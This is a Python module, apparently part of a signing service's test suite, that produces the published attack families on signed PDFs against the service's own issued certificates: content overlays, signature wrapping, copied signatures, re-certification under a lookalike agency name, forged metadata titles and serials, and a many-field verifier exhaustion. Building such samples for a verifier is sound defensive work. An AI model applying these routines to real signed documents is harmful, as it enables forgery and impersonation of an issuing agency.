"""The published attack families on signed PDFs (Mladenov et al. 2019 "1 Trillion Dollar Refund";
Mainka et al. 2021 "Shadow attacks"; Rohlmann et al. 2021 "Breaking the Specification: certified
documents"), built against a document the service issued.
"""

from __future__ import annotations

import io
import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields, signers

from .sigcheck import self_signed_signer


def _signature_hole(pdf: bytes) -> tuple[int, int]:
    """Start and end of the hex digits of the agency's signature's /Contents: the first signature (under B-LTA
    the last one is a document timestamp)."""
    match = next(re.finditer(rb"/Contents\s*<([0-9a-fA-F]{1000,})>", pdf))
    return match.start(1), match.end(1)


def _first_page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    return writer.root["/Pages"]["/Kids"][0].get_object()


def _write(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _text_stream(writer: IncrementalPdfFileWriter, text: bytes) -> generic.IndirectObject:
    return writer.add_object(generic.StreamObject(stream_data=b"BT /F1 28 Tf 120 620 Td (" + text + b") Tj ET"))


def incremental_saving(pdf: bytes) -> bytes:
    """ISA: an incremental update appends new content to the first page."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = _first_page(writer)
    contents = page["/Contents"]
    existing = list(contents) if isinstance(contents, generic.ArrayObject) else [page.raw_get("/Contents")]
    page["/Contents"] = generic.ArrayObject([*existing, _text_stream(writer, b"APPROVED 1000000")])
    writer.update_container(page)
    return _write(writer)


def shadow_replace(pdf: bytes) -> bytes:
    """Shadow attack, hide-and-replace: the page's content is swapped for other content in an update."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = _first_page(writer)
    page["/Contents"] = _text_stream(writer, b"FORGED CONTENT")
    writer.update_container(page)
    return _write(writer)


def evil_annotation(pdf: bytes) -> bytes:
    """EAA: a FreeText annotation (and a white box hiding text) added after certification."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = _first_page(writer)
    free_text = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Annot"),
        generic.NameObject("/Subtype"): generic.NameObject("/FreeText"),
        generic.NameObject("/Rect"): generic.ArrayObject([generic.FloatObject(v) for v in (100, 600, 400, 650)]),
        generic.NameObject("/Contents"): generic.TextStringObject("已批准 APPROVED"),
        generic.NameObject("/DA"): generic.TextStringObject("/Helv 24 Tf 0 g"),
    }))
    cover = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Annot"),
        generic.NameObject("/Subtype"): generic.NameObject("/Square"),
        generic.NameObject("/Rect"): generic.ArrayObject([generic.FloatObject(v) for v in (60, 500, 500, 560)]),
        generic.NameObject("/IC"): generic.ArrayObject([generic.FloatObject(1)] * 3),
        generic.NameObject("/C"): generic.ArrayObject([generic.FloatObject(1)] * 3),
    }))
    annots = page.get("/Annots")
    existing = list(annots) if annots is not None else []
    page["/Annots"] = generic.ArrayObject([*existing, free_text, cover])
    writer.update_container(page)
    return _write(writer)


def sneaky_signature_field(pdf: bytes) -> bytes:
    """SSA: a new, visible signature field added after certification to overlay the content."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    fields.append_signature_field(writer, fields.SigFieldSpec(sig_field_name="overlay", on_page=0, box=(50, 400, 550, 700)))
    return _write(writer)


def signature_wrapping(pdf: bytes) -> bytes:
    """USF/SWA: the signature's /Contents no longer fills the gap between the byte ranges; the room is
    used for other bytes (here a comment that could hide injected objects), the ranges left as they were."""
    start, end = _signature_hole(pdf)
    hex_digits = pdf[start:end]
    used = len(hex_digits.rstrip(b"0"))
    used += used % 2
    injected = hex_digits[:used] + b">%" + b"X" * (len(hex_digits) - used - 2) + b"\n"
    assert len(injected) == len(hex_digits) + 1  # the hex string's closing '>' is now inside the gap
    return pdf[:start] + injected + pdf[end + 1 :]


def unsigned_original(pdf: bytes) -> bytes:
    """The revision before the agency's signature: LibreOffice's output, still inside every issued file."""
    last_eof = pdf.rfind(b"%%EOF", 0, pdf.find(b"/ByteRange"))
    return pdf[: last_eof + len(b"%%EOF")] + b"\n"


def resigned_by_lookalike(pdf: bytes, serial: str, agency_name: str) -> bytes:
    """The content altered, then certified again with a key whose certificate bears the agency's name."""
    altered = incremental_saving(unsigned_original(pdf))
    writer = IncrementalPdfFileWriter(io.BytesIO(altered))
    meta = signers.PdfSignatureMetadata(field_name="agency", certify=True, docmdp_permissions=fields.MDPPerm.FILL_FORMS,
                                        reason=f"签发证明事项告知承诺书（登记编号 {serial}）", location=agency_name)
    return signers.sign_pdf(writer, meta, signer=self_signed_signer(agency_name, agency_name, rsa_key=True)).getvalue()


def copied_signature(target: bytes, donor: bytes) -> bytes:
    """The agency's signature (the CMS in /Contents) of one document pasted into another."""
    t_start, t_end = _signature_hole(target)
    d_start, d_end = _signature_hole(donor)
    donated = donor[d_start:d_end]
    assert len(donated) == t_end - t_start
    return target[:t_start] + donated + target[t_end:]


def broken_byte_range(pdf: bytes) -> bytes:
    """USF: the signature dictionary's /ByteRange renamed away, so that a careless viewer skips the check."""
    match = re.search(rb"/ByteRange\s*\[[^\]]*\]", pdf)
    return pdf[: match.start()] + b"/Dummy".ljust(len(b"/ByteRange")) + pdf[match.start() + len(b"/ByteRange"):]


def emptied_contents(pdf: bytes) -> bytes:
    """USF: the signature's /Contents overwritten with zeros."""
    start, end = _signature_hole(pdf)
    return pdf[:start] + b"0" * (end - start) + pdf[end:]


def retitled(pdf: bytes) -> bytes:
    """Metadata rewrite: an update that changes only the document information dictionary's title and
    subject (where viewers and indexes read the number and the serial)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    writer.document_meta.title = "伪造 [2026年]第999号"
    writer.document_meta.subject = "登记编号 2026-99999999-FAKE"
    writer._update_meta()  # noqa: SLF001 - pyHanko writes /Info only when it has something else to write
    writer.update_container(writer._info)  # noqa: SLF001
    return _write(writer)


def replaced_info(pdf: bytes) -> bytes:
    """Metadata rewrite: the trailer's /Info pointed at a new dictionary with another title."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    info = generic.DictionaryObject({
        generic.NameObject("/Title"): generic.TextStringObject("伪造 [2026年]第999号"),
        generic.NameObject("/Producer"): generic.TextStringObject("LibreOffice 7.4; pyHanko 0.38.0"),
    })
    writer._info = writer.add_object(info)  # noqa: SLF001
    writer.trailer["/Info"] = writer._info  # noqa: SLF001
    return _write(writer)


def added_xmp(pdf: bytes) -> bytes:
    """Metadata rewrite: an XMP /Metadata stream with another title added to the catalogue."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    writer.document_meta.title = "伪造 [2026年]第999号"
    writer.document_meta.xmp_unmanaged = False
    writer.document_meta.xmp_extra = []
    from pyhanko.pdf_utils.metadata import xmp_xml

    stream = xmp_xml.MetadataStream.from_xmp(xmp_xml.update_xmp_with_meta(writer.document_meta))
    writer.root["/Metadata"] = writer.add_object(stream)
    writer.update_root()
    return _write(writer)


def touched_by_a_signing_tool(pdf: bytes) -> bytes:
    """Not an attack: an update in which a tool rewrites only /Info's modification date and producer."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    writer._update_meta()  # noqa: SLF001 - as pyHanko does before it writes
    writer.update_container(writer._info)  # noqa: SLF001
    return _write(writer)


def many_fields_one_signature(pdf: bytes, count: int = 5000) -> bytes:
    """Thousands of extra signature fields whose value is the agency's real signature: each is validated
    again, so a careless verifier spends its whole time limit on one upload."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    acroform = writer.root["/AcroForm"]
    existing = list(acroform["/Fields"])
    signature = next(f.get_object().raw_get("/V") for f in existing if "/V" in f.get_object() and f.get_object().get("/FT") == "/Sig")
    copies = [writer.add_object(generic.DictionaryObject({
        generic.NameObject("/FT"): generic.NameObject("/Sig"),
        generic.NameObject("/T"): generic.TextStringObject(f"copy{n}"),
        generic.NameObject("/V"): signature,
        generic.NameObject("/Type"): generic.NameObject("/Annot"),
        generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
        generic.NameObject("/Rect"): generic.ArrayObject([generic.NumberObject(0)] * 4),
    })) for n in range(count)]
    acroform["/Fields"] = generic.ArrayObject([*existing, *copies])
    writer.update_container(acroform)
    return _write(writer)
